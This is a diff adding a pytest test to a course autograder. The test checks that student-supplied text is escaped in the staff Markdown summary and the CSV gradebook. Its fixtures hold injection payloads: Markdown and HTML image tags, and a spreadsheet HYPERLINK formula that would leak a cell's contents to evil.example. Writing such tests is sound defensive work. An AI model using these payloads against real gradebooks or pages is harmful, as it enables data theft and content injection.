@@ -209,3 +209,25 @@ def test_a_job_warms_up_the_grading_code_without_torch():
     )
     assert done.returncode == 0, done.stderr[-2000:]
     assert done.stdout.split("\n")[-2] == "['dlhw.autograder.grading', 'pytest']"
+
+
+def test_the_class_summary_and_gradebook_show_student_text_as_text(tmp_path: Path) -> None:
+    """A failure's first line quotes the submission (an exception's message): in the summary it
+    is code, so a student cannot put links, images or HTML in the staff's Markdown; and a name
+    a student chose (Gradescope's export) never runs as a spreadsheet formula."""
+    from dlhw.autograder.batch import Row
+    from dlhw.autograder.gradebook import write_gradebook
+
+    said = "f raised RuntimeError: ![x](http://evil.example/p.png) <img src=x> [a](u) `b` | c"
+    rows = [
+        Row("s1", ('=HYPERLINK("http://evil.example/?"&A2, "grade")',), "graded", 0.0, 1.0,
+            tests={"t": 0.0}, test_max={"t": 1.0}, feedback={"t": said}),
+        Row("s2", ("Bo",), "graded", 1.0, 1.0, tests={"t": 1.0}, test_max={"t": 1.0}),
+    ]  # fmt: skip
+    write_gradebook(rows, tmp_path)
+    line = next(ln for ln in (tmp_path / "summary.md").read_text().splitlines() if "evil" in ln)
+    quoted = "``" + said.replace("|", "\\|") + "``"  # code (a run of 2 closes it, not `b`)
+    assert line.endswith(f"| {quoted} (1) |"), line
+    with (tmp_path / "gradebook.csv").open() as fh:
+        table = list(csv.DictReader(fh))
+    assert table[0]["students"].startswith("'=HYPERLINK") and table[1]["students"] == "Bo"
